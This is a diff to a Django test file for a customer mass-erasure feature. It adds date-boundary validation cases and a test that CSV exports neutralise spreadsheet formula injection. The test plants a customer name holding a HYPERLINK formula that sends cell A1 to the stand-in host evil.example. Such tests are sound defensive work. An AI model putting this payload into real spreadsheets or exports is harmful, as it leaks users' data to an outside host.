@@ -78,6 +78,10 @@ def test_m6_an_administrator_sees_the_page(client):
         ({"criteria": "both", "through": "2020-13-45"}, "through"),
         ({"criteria": "both", "through": ""}, "through"),
         ({"criteria": "everyone", "through": "2020-12-31"}, "criteria"),
+        ({"criteria": "both", "through": "9999-12-31"}, "through"),  # the day after does not exist
+        ({"criteria": "both", "through": "0001-01-01"}, "through"),
+        ({"criteria": "both", "through": "1899-12-31"}, "through"),
+        ({"criteria": "both", "through": "3000-01-01"}, "through"),
     ],
 )
 def test_bad_input_is_shown_beside_the_field(eraser_client, data, field):
@@ -149,6 +153,24 @@ def test_m4_the_lists_name_only_the_customers_the_user_may_view(client, three):
     for response in (to_erase, ignored):
         assert response["Content-Disposition"].startswith("attachment;")
         assert "no-store" in response["Cache-Control"]
+
+
+def test_m4_both_lists_neutralise_cells_a_spreadsheet_would_run(eraser_client, three):
+    # given customers whose names a spreadsheet would take for formulas
+    never, buyer, blocked, _blocking = three
+    Customer.objects.filter(pk=never.pk).update(name='=HYPERLINK("http://evil.example/?leak="&A1,"click")')
+    Customer.objects.filter(pk=buyer.pk).update(name="+46 70 123 45 67")
+    Customer.objects.filter(pk=blocked.pk).update(name="@SUM(1+1)")
+    job, _response = plan(eraser_client)
+
+    # when
+    to_erase = eraser_client.get(reverse("mass_erasure:list", args=[job.pk, "to-erase"]))
+    ignored = eraser_client.get(reverse("mass_erasure:list", args=[job.pk, "ignored"]))
+
+    # then each such cell starts with an apostrophe, which a spreadsheet shows as text
+    names = [r["name"] for r in csv.DictReader(io.StringIO(to_erase.content.decode()))]
+    assert names == ['\'=HYPERLINK("http://evil.example/?leak="&A1,"click")', "'+46 70 123 45 67"]
+    assert [r["name"] for r in csv.DictReader(io.StringIO(ignored.content.decode()))] == ["'@SUM(1+1)"]
 
 
 def test_m3_the_page_warns_when_the_date_lies_within_the_last_year(eraser_client, three):
